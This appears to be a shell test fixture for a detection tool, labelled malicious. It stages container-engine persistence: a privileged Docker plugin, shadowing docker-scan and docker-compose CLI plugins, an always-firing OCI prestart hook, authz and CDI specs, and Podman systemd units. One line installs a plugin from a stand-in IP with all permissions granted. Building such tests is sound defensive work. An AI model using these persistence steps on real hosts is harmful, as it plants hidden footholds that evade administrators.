# engine-persistence: ways to come back with the engine: a plugin of it, a plugin of its client, a runtime's hook, a unit that starts a container.
# shows: docker plugin by its client; files written where engine, client and runtimes look
# label: malicious
# expects: [engine-plugin-installed, client-plugin-written, oci-hook-written, container-unit-written]
# allows: [engine-socket-connected, image-exported]
act() {
    if dev; then
        mkdir -p /srv/lab/p/rootfs/bin && cp /usr/bin/busybox /srv/lab/p/rootfs/bin/sh
        echo '{"description":"x","entrypoint":["/bin/sh"],"interface":{"types":["docker.volumedriver/1.0"],"socket":"p.sock"},"network":{"type":"host"},"linux":{"capabilities":["CAP_SYS_ADMIN"]}}' >/srv/lab/p/config.json
        docker plugin create local/vol /srv/lab/p
        mkdir -p /root/.docker/cli-plugins && printf '#!/bin/sh\nexit 0\n' >/root/.docker/cli-plugins/docker-scan
        mkdir -p /usr/share/containers/oci/hooks.d && echo '{"version":"1.0.0","hook":{"path":"/usr/bin/true"},"when":{"always":true},"stages":["prestart"]}' >/usr/share/containers/oci/hooks.d/10-x.json
        mkdir -p /etc/containers/systemd && printf '[Container]\nImage=alpine:3.19\n' >/etc/containers/systemd/update.container
    else
        timeout 5 docker plugin install --grant-all-permissions --alias vol 198.51.100.7/x/vol
        mkdir -p /etc/docker/plugins && echo 'unix:///run/authz.sock' >/etc/docker/plugins/authz.spec
        mkdir -p /usr/local/lib/docker/cli-plugins && cp /usr/bin/true /usr/local/lib/docker/cli-plugins/docker-compose
        mkdir -p /etc/cdi && printf '{"cdiVersion":"0.5.0","kind":"x.example/d","devices":[]}' | tee /etc/cdi/x.json
        mkdir -p /root/.config/containers/systemd && echo "[Kube]" >/root/.config/containers/systemd/web.kube
    fi
    true
}
restore() { docker plugin rm -f local/vol; rm -rf /srv/lab/p /root/.docker/cli-plugins /usr/share/containers/oci/hooks.d/10-x.json /etc/containers/systemd/update.container /etc/docker/plugins /usr/local/lib/docker /etc/cdi /root/.config/containers; }
